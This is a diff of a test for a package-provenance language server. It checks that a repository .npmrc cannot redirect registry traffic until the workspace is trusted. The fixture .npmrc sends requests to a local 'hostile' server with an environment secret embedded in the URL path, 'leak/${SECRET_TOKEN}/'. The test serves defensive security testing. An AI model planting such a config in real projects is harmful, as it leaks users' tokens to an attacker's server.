@@ -90,16 +90,24 @@ describe('language server: signatures and provenance', function () {
     ]);
   });
 
-  it('a repository .npmrc never chooses where the server connects: no trust signal means untrusted', async () => {
+  it('a repository .npmrc never chooses where the server connects until the workspace is trusted', async () => {
     registry = await startRegistryServer({ mode: 'normal' });
     const hostile = await startRegistryServer({ mode: 'normal' });
     try {
       ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED], undefined, { projectNpmrc: `registry=${hostile.url}leak/\${SECRET_TOKEN}/\n`, env: { SECRET_TOKEN: 'from-the-environment' } });
       ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
-      client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } }, { env: ws.env });
-      const status = await client.waitForStatus((s) => s.provenance?.state === 'done');
+      // The user's own settings, as an editor without Workspace Trust passes them: they apply untrusted.
+      const settings = { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } };
+      client = await LspTestClient.start(ws.root, settings, { env: ws.env, initializationOptions: { workspaceTrusted: false, settings: { chainsight: settings } } });
+      const untrusted = await client.waitForStatus((s) => s.provenance?.state === 'done');
       assert.equal(hostile.requests.length, 0, hostile.requests.join('\n'));
-      assert.equal(status.provenance?.signaturesVerified, 3, "the user's own registry answered");
+      assert.equal(untrusted.provenance?.signaturesVerified, 3, "the user's own registry answered");
+
+      const before = client.statuses.length;
+      await client.setTrust(true);
+      const checking = await client.waitForStatus((s) => s.provenance?.state === 'checking', before);
+      await client.waitForStatus((s) => s.provenance?.state === 'done', client.statuses.indexOf(checking));
+      assert.ok(hostile.requests.length > 0 && hostile.requests.every((r) => r.startsWith('GET /leak/from-the-environment/')), 'trusted: the project .npmrc, as npm reads it');
     } finally {
       await hostile.close();
     }
